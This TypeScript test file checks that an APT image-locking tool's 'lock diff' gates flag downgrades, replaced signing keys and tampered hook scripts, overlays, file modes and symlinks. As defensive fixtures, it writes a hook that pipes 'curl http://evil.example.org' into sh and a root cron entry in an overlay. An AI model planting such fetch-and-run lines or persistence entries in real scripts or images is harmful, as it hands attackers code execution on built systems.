import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { chmod, rename, rm, symlink } from 'node:fs/promises'
import { join } from 'node:path'
import type { PrivateKey } from 'openpgp'
import { beforeAll, describe, test } from 'vitest'
import { envelopeOf } from '../support/aptroot-program.ts'
import { type ArchivedPackage, buildArchive } from '../support/archive-builder.ts'
import { greetingManifest, greetingPackages, type LockedProject, lockedProject } from '../support/locked-project.ts'
import { type LoopbackMirror, startMirror } from '../support/loopback-mirror.ts'
import { makeTestKey } from '../support/signing.ts'

const newer = (packages: readonly ArchivedPackage[]) =>
  packages.map(each =>
    each.control.Package === 'greeting' ? { ...each, control: { ...each.control, Version: '1.1' } } : each,
  )

let key: PrivateKey
/** The archive on two days: on the second, `greeting` 1.1 is in place of 1.0. */
let days: readonly Readonly<Record<string, Uint8Array>>[] = []
beforeAll(async () => {
  key = await makeTestKey({ name: 'Archive' })
  const suite = { suite: 'stable', codename: 'trusty', label: 'Test', architectures: ['amd64'], keys: [key] }
  days = await Promise.all(
    [greetingPackages, newer(greetingPackages)].map((packages, at) =>
      buildArchive([{ ...suite, packages, date: new Date(`2026-01-1${5 + at}T10:00:00Z`) }]),
    ),
  )
})

const gates = '--fail-on key,archive,hook,pin,origin,downgrade,epoch,stale,unproven'
const image = 'run: [{script: hooks/finish.sh}]\n  files: [{source: overlay/, target: /etc}]\n'

interface Repository {
  readonly project: LockedProject
  readonly mirror: LoopbackMirror
  readonly git: (...words: string[]) => string
  show(day: 0 | 1): void
}

/** A project that is locked on the first day and committed. */
async function repository(): Promise<Repository> {
  const mirror = await startMirror({ files: days[0] ?? {} })
  const project = await lockedProject(mirror.url, key)
  const manifest = greetingManifest(mirror.url).replace('configure: none', 'configure: scripts')
  await project.write('aptroot.yaml', `${manifest}  ${image}`)
  await project.write('hooks/finish.sh', '#!/bin/sh\n')
  await project.write('overlay/motd', 'hello\n')
  await project.write('.gitignore', 'out/\n')
  await project.succeed('lock update --as-of 2026-01-20')
  const git = (...words: string[]) =>
    execFileSync('git', ['-c', 'user.name=Ada', '-c', 'user.email=ada@example.org', ...words], {
      cwd: project.folder,
      stdio: 'pipe',
    }).toString()
  git('init', '-q')
  git('add', '.')
  git('commit', '-qm', 'first')
  const show = (day: 0 | 1) => {
    for (const path of [...mirror.files.keys()]) mirror.files.delete(path)
    for (const [path, bytes] of Object.entries(days[day] ?? {})) mirror.files.set(path, bytes)
  }
  return { project, mirror, git, show }
}

const head = (text: string) => text.split('\n').slice(0, 20).join('\n')

describe('an honest update', () => {
  test('passes every gate: its debs stand in a signed index, kept by the update or asked for anew', async () => {
    const { project, mirror, show } = await repository()
    show(1)
    await project.succeed('lock update --as-of 2026-01-20')
    const { output } = await project.succeed(`lock diff ${gates} --offline`)
    assert.match(output, /No change of trust/)
    const empty = { APTROOT_STORE: join(project.folder, '../empty') }
    await project.succeed(`lock diff ${gates}`, empty)
    for (const path of [...mirror.files.keys()]) mirror.files.delete(path)
    const blind = await project.run(`lock diff ${gates} --offline`, { APTROOT_STORE: join(project.folder, '../none') })
    assert.equal(blind.exitCode, 9, 'what cannot be proven does not pass')
  })
})

describe('a hostile request', () => {
  test('back to a deb that the archive really signed once is a downgrade, and no index of today lists it', async () => {
    const { project, git, show } = await repository()
    const old = (await project.read('aptroot.lock')).toString()
    show(1)
    await project.succeed('lock update --as-of 2026-01-20')
    git('commit', '-qam', 'second')
    await project.write('aptroot.lock', old)
    const empty = { APTROOT_STORE: join(project.folder, '../empty') }
    const { output } = await project.succeed('lock diff --origin --format markdown', empty)
    assert.match(head(output), /Version older than before\*\*: `greeting`/)
    assert.match(head(output), /Not listed under any trusted signature\*\*: `greeting:all`/)
    for (const gate of ['downgrade', 'unproven'])
      assert.equal((await project.run(`lock diff --fail-on ${gate}`, empty)).exitCode, 9, gate)
  })

  const swaps: Readonly<
    Record<string, { readonly gate: string; readonly title: RegExp; act(at: Repository): Promise<unknown> }>
  > = {
    'exchanges a key file behind the same line': {
      gate: 'key',
      title:
        /Signing key changed\*\*: `keys\/test\.asc`: `behind the same line of the manifest: [0-9a-f]{12} → [0-9a-f]{12}`/,
      act: async ({ project }) =>
        project.write('keys/test.asc', (await makeTestKey({ name: 'Mallory' })).toPublic().armor()),
    },
    'slips lines into a script behind the same line': {
      gate: 'hook',
      title: /Script that runs in the image changed\*\*: `hooks\/finish\.sh`/,
      act: ({ project }) => project.write('hooks/finish.sh', '#!/bin/sh\ncurl http://evil.example.org | sh\n'),
    },
    'slips a file into an overlay': {
      gate: 'hook',
      title: /Files laid over the image added\*\*: `overlay\/cron\.d\/evil`: `[^`]*absent → /,
      act: ({ project }) => project.write('overlay/cron.d/evil', '* * * * * root evil\n'),
    },
    'makes a file executable': {
      gate: 'hook',
      title: /Files laid over the image changed\*\*: `overlay\/motd`: `[^`]*\(mode 100755\)`/,
      act: ({ project }) => chmod(join(project.folder, 'overlay/motd'), 0o755),
    },
    'changes what a link leads to': {
      gate: 'hook',
      title: /Script that runs in the image changed\*\*: `real\.sh`/,
      act: async ({ project, git }) => {
        await rename(join(project.folder, 'hooks/finish.sh'), join(project.folder, 'real.sh'))
        await symlink('../real.sh', join(project.folder, 'hooks/finish.sh'))
        git('add', '.')
        git('commit', '-qm', 'a link')
        await project.write('real.sh', '#!/bin/sh\nevil\n')
      },
    },
    'takes the script away': {
      gate: 'hook',
      title: /Script that runs in the image removed\*\*: `hooks\/finish\.sh`/,
      act: ({ project }) => rm(join(project.folder, 'hooks/finish.sh')),
    },
  }
  for (const [what, { gate, title, act }] of Object.entries(swaps))
    test(`that ${what} is evident and stopped, in the working tree and between revisions`, async () => {
      const at = await repository()
      await act(at)
      assert.match(head((await at.project.run('lock diff --format markdown')).output), title)
      const stopped = envelopeOf(await at.project.run(`lock diff --fail-on ${gate} --json`))
      assert.deepEqual([stopped.exitCode, stopped.fault?.code], [9, 'REVIEW_GATE'])
      at.git('add', '.')
      at.git('commit', '-qm', 'hostile')
      assert.match(head((await at.project.run('lock diff HEAD~1 HEAD --format markdown')).output), title)
    })

  test('whose files cannot be compared does not pass: a side that is an address', async () => {
    const { project, mirror } = await repository()
    for (const name of ['aptroot.lock', 'aptroot.yaml']) mirror.files.set(name, await project.read(name))
    const { output, exitCode } = await project.run(`lock diff ${mirror.url}/aptroot.lock --fail-on hook`)
    assert.match(output, /Could not be compared: files that .*aptroot\.lock names: an address has no files beside it/)
    assert.equal(exitCode, 9)
  })
})
